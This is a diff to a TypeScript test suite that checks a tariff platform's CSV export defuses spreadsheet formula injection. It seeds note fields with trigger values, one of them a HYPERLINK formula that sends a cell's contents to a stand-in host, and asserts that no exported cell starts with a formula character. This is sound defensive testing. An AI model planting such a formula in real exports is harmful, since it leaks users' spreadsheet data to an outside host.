@@ -11,6 +11,7 @@ import { createApp } from '../../src/app.ts';
 import { DEMO_PARTIES, makeFlow, wrapMessage } from '../../src/demo/flows.ts';
 import { databases, eventually, startPlatform, type Platform } from '../support/platform.ts';
 import { tempDir } from '../support/db.ts';
+import { parseCsv } from '../../src/platform/csv.ts';
 
 interface ErrorBody {
   error: { code: string; message: string; issues: Array<{ path: string; rule: string; expected: string; actual: string }> };
@@ -126,8 +127,18 @@ describe.each(databases())('sandbox scenarios and tariff export on %s', (kind) =
 
   it('exports the rate table and the positive list as CSV that imports back unchanged', async () => {
     const note = 'rate "A", 含税说明\nsecond line';
-    const seeded = await call('POST', '/api/v1/tariff/rates', 'operator', [{ hs_prefix: '33049910', vat: 13, consumption: 15, duty: 0, note }]);
+    const seeded = await call('POST', '/api/v1/tariff/rates', 'operator', [
+      { hs_prefix: '33049910', vat: 13, consumption: 15, duty: 0, note },
+      // Text a spreadsheet would run as a formula, and text that already starts with an apostrophe.
+      { hs_prefix: '33049920', vat: 13, consumption: 0, duty: 0, note: '=HYPERLINK("http://example.invalid/?"&A1,"x")' },
+      { hs_prefix: '33049930', vat: 13, consumption: 0, duty: 0, note: "'=1+1" },
+    ]);
     expect(seeded.status, seeded.text).toBe(200);
+    const listed = await call('POST', '/api/v1/tariff/positive-list', 'operator', [
+      { hs_prefix: '0101210010', name: '--其他', note: '@SUM(1)' },
+      { hs_prefix: '0101210020', name: '+86 活马', note: '-' },
+    ]);
+    expect(listed.status, listed.text).toBe(200);
     for (const [table, url] of [['rates', '/api/v1/tariff/rates'], ['positive-list', '/api/v1/tariff/positive-list']] as const) {
       const before = ((await call('GET', url, 'operator')).json() as { items: Array<Record<string, unknown>> }).items.map(({ updatedAt: _u, ...rest }) => rest);
       const csv = await fetch(`${p.url}${url}.csv`, { headers: { authorization: `Bearer ${p.key('customs')}` } });
@@ -139,6 +150,10 @@ describe.each(databases())('sandbox scenarios and tariff export on %s', (kind) =
       expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
       expect(bytes.toString('utf8').slice(1).split('\r\n')[0]).toBe(table === 'rates' ? 'hs_prefix,vat,consumption,duty,note' : 'hs_prefix,name,note');
       expect((await call('GET', `${url}.csv`, 'ebp')).status).toBe(403);
+      // No cell a spreadsheet would evaluate.
+      const cells = parseCsv(bytes.toString('utf8'));
+      expect(cells.ok).toBe(true);
+      for (const r of cells.ok ? cells.records : []) for (const f of r.fields) expect(f, `${table} line ${r.line}`).not.toMatch(/^[=+\-@\t\r]/);
       const back = await p.request('POST', `${url}?mode=replace`, { key: p.key('operator'), body: bytes, type: 'text/csv' });
       expect(back.status, back.text).toBe(200);
       expect(back.json()).toMatchObject({ rows: before.length });
